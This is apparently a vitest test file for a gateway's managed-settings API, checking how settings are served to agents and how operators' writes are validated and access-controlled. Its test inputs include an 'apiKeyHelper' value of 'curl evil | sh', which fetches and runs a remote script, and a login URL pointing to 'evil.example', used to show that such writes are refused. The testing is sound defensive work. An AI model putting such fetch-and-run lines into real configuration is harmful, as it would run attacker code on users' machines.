// Managed settings: operators save them, nodes serve them to signed-in agents, and nobody else reads or writes them.
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { runCommandLine } from '../../packages/cli/src/program.ts';
import { fakeTerminal } from '../../packages/cli/src/terminal.fixture.ts';
import { type AdminStand, OPERATOR_SECRET, openAdminStand } from '../support/admin-stand.ts';
import { signInsFor } from '../support/signed-in.ts';
import { KEY } from '../support/stand.ts';

const signIn = signInsFor();
let stand: AdminStand;
let node: AdminStand;
let owner: string;
beforeAll(async () => {
  stand = await openAdminStand();
  node = await openAdminStand({}, stand.database);
  owner = (await stand.newAccount('acme')).secret;
});
afterAll(async () => {
  await node.close();
  await stand.close();
});

const LIST = '/managed-settings';
const save = (entry: object, secret?: string) => stand.admin('POST', LIST, entry, secret);
const get = (at: AdminStand, token: string, headers: Record<string, string> = {}) =>
  fetch(`${at.url}/managed/settings`, { headers: { authorization: `Bearer ${token}`, ...headers } });
const removeAll = async (): Promise<void> => {
  const { json } = await stand.admin('GET', LIST);
  for (const { name } of json['items'] as { name: string }[]) await stand.admin('DELETE', `${LIST}/${name}`);
};
const errorOf = ({ json }: { json: Record<string, unknown> }): { message: string; field?: string } =>
  json['error'] as { message: string; field?: string };
/** The name of the model that both nodes give this person; undefined: a 404. */
const models = async (token: string): Promise<unknown[]> =>
  Promise.all(
    [stand, node].map(async (at) => {
      const reply = await get(at, token);
      if (reply.status === 404) return undefined;
      return ((await reply.json()) as { settings: { model?: string } }).settings.model;
    }),
  );
const serve = (token: string, model: string | undefined): Promise<void> =>
  vi.waitFor(async () => expect(await models(token)).toEqual([model, model]), 20_000);

/** Written without the gateway's own: members sorted by code units at every level, no spaces. */
function sortedJson(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(sortedJson).join(',')}]`;
  if (typeof value !== 'object' || value === null) return JSON.stringify(value);
  const members = value as Record<string, unknown>;
  const names = Object.keys(members).sort();
  return `{${names.map((name) => `${JSON.stringify(name)}:${sortedJson(members[name])}`).join(',')}}`;
}

describe('agents get', () => {
  test('their settings with the checksum that they compute themselves, and 304 while nothing has changed', async () => {
    const settings = {
      model: 'claude-sonnet-5',
      permissions: { deny: ['Read(./.env)', 'WebFetch'], allow: ['Bash(npm *)'], defaultMode: 'plan' },
      env: { Z_LAST: 'ü "1"', A_FIRST: '2' },
      availableModels: ['sonnet', 'haiku'],
    };
    expect((await save({ name: 'all', settings })).status).toBe(201);
    const token = signIn({ account: 'acme' });
    await serve(token, 'claude-sonnet-5');
    const reply = await get(stand, token);
    const body = (await reply.json()) as { uuid: string; checksum: string; settings: unknown };
    expect(Object.keys(body).sort()).toEqual(['checksum', 'settings', 'uuid']);
    expect(body.settings).toEqual(settings);
    const computed = `sha256:${createHash('sha256').update(sortedJson(settings)).digest('hex')}`;
    expect(body.checksum).toBe(computed);
    expect(body.uuid).toMatch(/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/);
    expect([reply.headers.get('etag'), reply.headers.get('vary')]).toEqual([`"${computed}"`, 'User-Agent']);
    // Another node answers the same, to the byte.
    expect(await (await get(node, token)).text()).toBe(await (await get(stand, token)).text());
    for (const known of [`"${computed}"`, `W/"${computed}"`, `"other", "${computed}"`]) {
      const unchanged = await get(stand, token, { 'if-none-match': known });
      expect([unchanged.status, await unchanged.text(), unchanged.headers.get('etag')]).toEqual([
        304,
        '',
        `"${computed}"`,
      ]);
    }
    // One that asks whether there are any gets them, and so does one with an older answer.
    for (const other of ['*', '"sha256:00"', computed])
      expect((await get(stand, token, { 'if-none-match': other })).status).toBe(200);
    await removeAll();
    await serve(token, undefined);
  });

  test('those of the lowest number that match their group and account, and others within a moment', async () => {
    const person = (account: string, ...groups: string[]) => signIn({ account, groups });
    const [dev, ops, both, elsewhere] = [
      person('acme', 'dev'),
      person('acme', 'ops'),
      person('acme', 'ops', 'dev'),
      person('other', 'dev'),
    ];
    await save({ name: 'b-dev', match: { groups: ['dev', 'data'] }, settings: { model: 'of-dev' } });
    await save({ name: 'a-ops', priority: 5, match: { groups: ['ops'] }, settings: { model: 'of-ops' } });
    await save({ name: 'acme', priority: 200, match: { accounts: ['acme'] }, settings: { model: 'of-acme' } });
    await serve(dev, 'of-dev');
    await serve(ops, 'of-ops');
    await serve(both, 'of-ops');
    await serve(elsewhere, 'of-dev');
    await serve(person('acme'), 'of-acme');
    await serve(person('other'), undefined);
    await save({ name: 'a-ops', priority: 500, match: { groups: ['ops'], accounts: ['acme'] }, settings: {} });
    await serve(both, 'of-dev');
    await serve(ops, 'of-acme');
    await removeAll();
    await serve(both, undefined);
  });

  test('nothing with a key, and an error in the form of the messages API', async () => {
    await save({ name: 'all', settings: {} });
    const reply = await get(stand, KEY);
    expect([reply.status, ((await reply.json()) as { error: { type: string } }).error.type]).toEqual([
      404,
      'not_found_error',
    ]);
    const unknown = await get(stand, 'sk-nobody');
    expect([unknown.status, unknown.headers.get('x-should-retry')]).toEqual([401, 'false']);
    expect((await fetch(`${stand.url}/user/bootstrap`)).status).toBe(404);
    expect((await fetch(`${stand.url}/managed/settings`, { method: 'POST' })).status).toBe(405);
    await removeAll();
  });
});

describe('operators', () => {
  test.each([
    [{ modell: 'x' }, 'settings.modell', 'is no known setting'],
    [{ permissions: { alow: [] } }, 'settings.permissions.alow', 'is no known setting'],
    [{ permissions: { allow: ['Bash', 7] } }, 'settings.permissions.allow.1', 'must be a text'],
    [{ permissions: { defaultMode: 'yolo' } }, 'settings.permissions.defaultMode', 'must be one of'],
    [{ hooks: { Stop: [{ hooks: [{ type: 'shell' }] }] } }, 'settings.hooks.Stop.0.hooks.0.type', 'must be one of'],
    [{ hooks: { Stop: [{ hooks: [{ cmd: 'x' }] }] } }, 'settings.hooks.Stop.0.hooks.0.cmd', 'is no known setting'],
    [{ env: { A: 1 } }, 'settings.env.A', 'must be a text'],
    [{ env: { ANTHROPIC_API_KEY: 'sk-ant-secret' } }, 'settings.env.ANTHROPIC_API_KEY', 'is the name of a secret'],
    [{ env: { OTEL_EXPORTER_OTLP_HEADERS: 'authorization=x' } }, 'settings.env.OTEL_EXPORTER_OTLP_HEADERS', 'secret'],
    [{ cleanupPeriodDays: '7' }, 'settings.cleanupPeriodDays', 'must be a number'],
    [{ allowedMcpServers: [{ name: 'x' }] }, 'settings.allowedMcpServers.0.name', 'is no known setting'],
    [{ forceLoginGatewayUrl: 'https://evil.example' }, 'settings.forceLoginGatewayUrl', 'is no known setting'],
    [{ constructor: {} }, 'settings.constructor', 'is no known setting'],
    [{ companyAnnouncements: ['x'.repeat(66_000)] }, 'settings', 'must not be longer than'],
  ])('are refused %o', async (settings, field, message) => {
    const refused = await save({ name: 'wrong', settings });
    expect([refused.status, errorOf(refused).field]).toEqual([400, field]);
    expect(errorOf(refused).message).toContain(message);
    expect((await stand.admin('GET', `${LIST}/wrong`)).status).toBe(404);
  });

  test('pass on members newer than this release by naming them, and no known one that way', async () => {
    const entry = { name: 'new', settings: { brandNew: { deep: [1] } }, unchecked: ['brandNew'] };
    expect((await save(entry)).status).toBe(201);
    const known = await save({ name: 'new', settings: { model: 7 }, unchecked: ['model'] });
    expect([known.status, errorOf(known).field]).toEqual([400, 'settings.model']);
    await removeAll();
  });

  test('see versions, and in the audit log what each changed', async () => {
    const before = { name: 'v', settings: { model: 'one', verbose: true } };
    await save(before);
    await save({ name: 'v', priority: 7, settings: { model: 'two', verbose: true, fastMode: false } });
    await stand.admin('DELETE', `${LIST}/v`);
    const versions = (await stand.admin('GET', `${LIST}/v`)).json['items'] as { version: number; entry: unknown }[];
    expect(versions.map(({ version, entry }) => [version, entry === null])).toEqual([
      [3, true],
      [2, false],
      [1, false],
    ]);
    const audit = (await stand.admin('GET', '/audit?limit=3')).json['items'] as { action: string; detail: unknown }[];
    expect(audit.map(({ action, detail }) => [action, detail])).toEqual([
      [
        'managed-settings.remove',
        {
          version: 3,
          before: { priority: 7, 'settings.model': 'two', 'settings.verbose': true, 'settings.fastMode': false },
          after: {},
        },
      ],
      [
        'managed-settings.save',
        {
          version: 2,
          before: { priority: 100, 'settings.model': 'one' },
          after: { priority: 7, 'settings.model': 'two', 'settings.fastMode': false },
        },
      ],
      [
        'managed-settings.save',
        { version: 1, before: {}, after: { priority: 100, 'settings.model': 'one', 'settings.verbose': true } },
      ],
    ]);
    expect((await stand.admin('DELETE', `${LIST}/v`)).status).toBe(404);
  });

  test('and nobody else: neither owners of an account, nor keys, nor tokens of people', async () => {
    await save({ name: 'mine', settings: {} });
    const token = signIn({ account: 'acme', groups: ['operators'] });
    for (const [method, path, body] of [
      ['GET', LIST, undefined],
      ['POST', LIST, { name: 'mine', settings: { apiKeyHelper: 'curl evil | sh' } }],
      ['GET', `${LIST}/mine`, undefined],
      ['DELETE', `${LIST}/mine`, undefined],
    ] as const) {
      expect((await stand.admin(method, path, body, owner)).status, `${method} ${path}`).toBe(403);
      for (const secret of [KEY, token])
        expect([401, 403], `${method} ${path}`).toContain((await stand.admin(method, path, body, secret)).status);
    }
    const document = { managedSettings: [{ name: 'mine', settings: { apiKeyHelper: 'curl evil | sh' } }] };
    expect((await stand.admin('POST', '/declared', { declared: document }, owner)).status).toBe(403);
    expect((await stand.admin('GET', `${LIST}/mine`)).json['items']).toHaveLength(1);
    await removeAll();
  });

  test('declare them in files: the same twice changes nothing, a wrong one names its place, pruning removes', async () => {
    const declare = (managedSettings: object[], more: object = {}) =>
      stand.admin('POST', '/declared', { declared: { managedSettings }, ...more });
    const entry = { name: 'file', match: { groups: ['dev'] }, settings: { model: 'of-file' } };
    const dev = signIn({ account: 'acme', groups: ['dev'] });
    expect((await declare([entry])).status).toBe(200);
    await serve(dev, 'of-file');
    await declare([entry]);
    expect((await stand.admin('GET', `${LIST}/file`)).json['items']).toHaveLength(1);
    const wrong = await declare([{ ...entry, settings: { modell: 'x' } }]);
    expect(wrong.status).toBe(400);
    expect(errorOf(wrong).message).toContain('is no known setting');
    expect(wrong.text).toContain('managedSettings.0.settings.modell');
    await declare([], { prune: true });
    await serve(dev, undefined);
  });

  test('use the command line', async () => {
    const file = join(mkdtempSync(join(tmpdir(), 'settings-')), 'settings.json');
    writeFileSync(file, JSON.stringify({ name: 'typed', settings: { model: 'by-hand' } }));
    const run = async (...words: string[]): Promise<string> => {
      const terminal = fakeTerminal({
        TRIVIUM_ADMIN_URL: stand.gateway.adminUrl,
        TRIVIUM_ADMIN_SECRET: OPERATOR_SECRET,
      });
      await runCommandLine(['managed-settings', ...words, '--json'], terminal);
      expect(terminal.errors).toEqual([]);
      return terminal.output.join('\n');
    };
    await run('save', '--file', file);
    expect(await run('list')).toContain('typed');
    expect(await run('history', 'typed')).toContain('by-hand');
    await run('remove', 'typed');
    expect(await run('list')).not.toContain('typed');
  });
});
